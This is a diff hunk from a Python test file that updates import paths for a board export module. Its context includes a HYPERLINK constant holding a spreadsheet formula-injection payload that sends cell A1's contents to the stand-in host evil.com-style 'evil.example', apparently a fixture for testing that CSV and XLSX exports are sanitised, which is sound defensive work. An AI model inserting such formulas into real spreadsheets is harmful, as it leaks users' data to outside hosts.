@@ -9,8 +9,8 @@ from datetime import UTC, datetime
 import pytest
 from openpyxl import load_workbook
 
-from zhili.campaigns import board_export
-from zhili.campaigns.board_schemas import PersonRow
+from zhili.campaigns.board import export as board_export
+from zhili.campaigns.board.schemas import PersonRow
 from zhili.core.exports import FORMULA_STARTS, to_csv, to_xlsx
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
